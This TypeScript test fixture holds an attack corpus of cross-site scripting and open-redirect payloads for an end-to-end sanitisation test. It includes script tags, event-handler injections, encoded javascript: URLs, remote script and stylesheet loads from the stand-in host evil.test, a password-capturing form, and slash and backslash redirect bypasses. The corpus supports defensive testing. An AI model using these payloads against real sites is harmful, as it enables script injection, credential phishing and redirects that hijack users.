/**
 * The attack corpus of markup and URLs that try to run script or send the member elsewhere.
 * Every script payload, if it ever ran, would set `window.__xss` or open a dialog; every redirect payload
 * points at `evil.test`. The end-to-end test feeds them through each untrusted input and watches for both.
 */

export const EVIL_HOST = 'evil.test';

/** HTML that must render harmlessly wherever server HTML is shown (promotions, notices). */
export const HTML_PAYLOADS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss=1">',
  '<img src="x" onerror=alert(1)>',
  '<svg onload="window.__xss=1"></svg>',
  '<svg><script>window.__xss=1</script></svg>',
  '<body onload="window.__xss=1">',
  '<iframe src="javascript:window.top.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<a href="javascript:window.__xss=1">tap</a>',
  '<a href="JaVaScRiPt:window.__xss=1">tap</a>',
  '<a href="&#106;avascript:window.__xss=1">tap</a>',
  '<a href="java&#x09;script:window.__xss=1">tap</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">tap</a>',
  '<a href="vbscript:msgbox(1)">tap</a>',
  '<a href="//evil.test/">tap</a>',
  '<form action="https://evil.test/"><input name="password"><button>go</button></form>',
  '<input autofocus onfocus="window.__xss=1">',
  '<details open ontoggle="window.__xss=1">',
  '<video><source onerror="window.__xss=1"></video>',
  '<audio src=x onerror="window.__xss=1">',
  '<marquee onstart="window.__xss=1">',
  '<div style="background:url(javascript:window.__xss=1)">x</div>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<svg><a xlink:href="javascript:window.__xss=1"><text y="20">tap</text></a></svg>',
  '<img src="https://evil.test/x.png" srcset="javascript:window.__xss=1">',
  '<p onclick="window.__xss=1" onmouseover="window.__xss=1">hover</p>',
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
  '<template><script>window.__xss=1</script></template>',
  '<isindex action="javascript:window.__xss=1" type=image>',
  '<button formaction="javascript:window.__xss=1">go</button>',
  '{{constructor.constructor("window.__xss=1")()}}',
  // a path browsers read as another host, svg smuggled as a data: image, sizes as a carrier.
  '<a href="/\\evil.test/x">tap</a>',
  '<a href="/&#92;evil.test/">tap</a>',
  '<img src="/\\evil.test/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzPTEiLz4=">',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss=1'/>\">",
  '<table><tr><td colspan="2" width="javascript:window.__xss=1" height="1;background:url(//evil.test)">x</td></tr></table>',
];

/** URLs that must never be loaded, opened or followed as given (gurl, download, contact, share, redirects). */
export const URL_PAYLOADS: readonly string[] = [
  'javascript:window.__xss=1',
  'JAVASCRIPT:window.__xss=1',
  ' javascript:window.__xss=1',
  'java\tscript:window.__xss=1',
  'javascript://%0Awindow.__xss=1',
  'data:text/html,<script>window.__xss=1</script>',
  'vbscript:msgbox(1)',
  'https://evil.test/',
  'http://evil.test/',
  '//evil.test/',
  '/\\evil.test/',
  '\\\\evil.test',
  'https:evil.test',
  'https://localhost@evil.test/',
  'https://evil.test\\@localhost/',
  '/m/../../%2F%2Fevil.test',
  '%2F%2Fevil.test',
  'https://localhost.evil.test/',
  // doubled slashes and backslashes inside an app path, typed or percent-encoded.
  '/m//evil.test/',
  '/m/\\evil.test/',
  '/m/%2f%2fevil.test',
  '/m/%5cevil.test',
  '/m/%252f%252fevil.test',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1"/>',
];

/** Redirects after login that stay on this site only because a router happens to tidy them. */
export const INTERNAL_PATH_PAYLOADS: readonly string[] = [
  '/m//evil.test/',
  '/m/\\evil.test/',
  '/m/en-vn/%2f%2fevil.test',
  '/m/en-vn/%5cevil.test',
  '/m/en-vn/%252f%252fevil.test',
  '/m/en-vn/home?next=//evil.test',
];

export const ALL_PAYLOADS = [...HTML_PAYLOADS, ...URL_PAYLOADS];

/** A promotions reply (`/api/getpromotion` data) with one offer per HTML payload, all in one tab. */
export const PROMOTIONS_OF_PAYLOADS = {
  menuMods: [{ groupId: '0', resourceName: 'All' }],
  promotionContents: HTML_PAYLOADS.map((html, i) => ({
    groupIds: '0',
    imgPath: '',
    promoteTitle: `Offer ${i}`,
    promoteContent: `<p>Offer ${i}</p>${html}`,
  })),
};
